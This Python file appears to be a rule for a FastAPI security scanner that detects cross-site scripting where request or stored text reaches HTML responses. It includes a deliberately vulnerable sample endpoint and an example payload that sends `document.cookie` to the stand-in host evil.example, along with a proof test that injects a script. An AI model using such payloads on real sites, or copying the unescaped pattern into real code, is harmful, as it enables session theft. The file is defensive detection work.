"""What people write becomes part of a page as HTML.

A page that is put together with an f-string holds whatever was put in: a `<script>` in a name or a search runs in the browser of
whoever opens the page, with their session. Templates escape for you, `html.escape` does it by hand. The value is followed from
the request to `HTMLResponse`, `Response(media_type="text/html")`, `Markup` and what an operation with
`response_class=HTMLResponse` returns; texts of a row that the database holds, and that
a request can write, count as well, one step less sure.

Known limits: where in the page the value stands is not looked at; inside a `<script>` or an address, escaping is not
enough. `|safe` in a template is not read.
"""

from __future__ import annotations

from collections.abc import Iterator

from fastapi_architect.analyses.request_flows import Flow, flows_to
from fastapi_architect.analyses.stored_in_pages import StoredText, stored_in_pages
from fastapi_architect.rules.kit import (
    AppGraph,
    Confidence,
    Finding,
    Proof,
    Rule,
    Severity,
    first_route,
    routes_of,
    steps,
)

rule = Rule(
    __name__,
    "What people write becomes part of a page as HTML",
    severity=Severity.IMPORTANT,
    cwe=79,
    cvss="AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N",
    references=(
        "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
        "https://fastapi.tiangolo.com/advanced/templates/",
    ),
)


@rule.check(per=AppGraph)
def text_becomes_html(graph: AppGraph, _: AppGraph) -> Iterator[Finding]:
    told = set()
    for flow in flows_to(graph, "html"):
        if flow.sink.scope.module.kind == "source":
            told.add(id(flow.sink.node))
            yield _finding(flow)
    for stored in stored_in_pages(graph):
        if id(stored.response.node) not in told:
            yield _of_a_row(stored, graph)


def _of_a_row(stored: StoredText, graph: AppGraph) -> Finding:
    function = stored.response.function
    operations = graph.entries(function) if function is not None else ()
    name = f"{stored.model.cls.name}.{stored.column}"
    route = first_route(operations, stored.response.scope.name)
    return rule.at(
        stored.response,
        f"`{name}` becomes part of the page that {route} answers with, as HTML.",
        _escaped(stored.column),
        reasoning=f"A row of `{stored.model.cls.name}` holds what somebody wrote, and a browser reads it as part of the page.",
        exploit=f"Whoever writes `<script>` into `{stored.column}` runs it in the browser of everybody who opens {route}.",
        confidence=Confidence.FIRM if stored.is_input else Confidence.TENTATIVE,
        trace=steps(
            (stored.scope.location(stored.node), f"`{name}` is written into the page"),
            (stored.response, "the page is sent as HTML"),
        ),
        routes=routes_of(operations),
    )


def _finding(flow: Flow) -> Finding:
    function = flow.sink.scope.full_name.rpartition(".")[2]
    return rule.at(
        flow.fact,
        f"`{flow.name}` of {flow.route}{flow.others} becomes part of a page that `{function}` makes, as HTML.",
        _suggestion(flow),
        reasoning=f"`{flow.name}` comes from the {flow.place}; it arrives{flow.through} as it was sent, and a browser reads "
        "it as part of the page.",
        exploit=f"{flow.route} with `{flow.field}=<script>fetch('//evil.example/'+document.cookie)</script>` runs in the "
        "browser of whoever opens it.",
        confidence=flow.confidence,
        trace=flow.trace("it is written into the page"),
        routes=flow.routes,
    )


def _suggestion(flow: Flow) -> str:
    return _escaped(flow.field if flow.field.isidentifier() else "value")


def _escaped(name: str) -> str:
    return (
        "Let a template write the page (`Jinja2Templates` escapes), or escape the value where it is written:\n"
        f'```python\nfrom html import escape\n\npage = f"<p>{{escape({name})}}</p>"\n```'
    )


_APP = """
    from html import escape

    from fastapi import FastAPI
    from fastapi.responses import HTMLResponse

    app = FastAPI()

    @app.get("/search")
    def search(words: str) -> HTMLResponse:
        %s
"""

rule.bad = _APP % 'return HTMLResponse(f"<p>Nothing found for {words}.</p>")  # finding: html-response-xss'

rule.good = _APP % 'return HTMLResponse(f"<p>Nothing found for {escape(words)}.</p>")'


@rule.exploit
def a_search_runs_a_script(proof: Proof) -> None:
    """Words with a script in them come back as a script of the page."""
    answer = proof.client.get("/search", params={"words": "<script>steal()</script>"})
    assert answer.headers["content-type"].startswith("text/html")
    assert "<script>steal()</script>" in answer.text
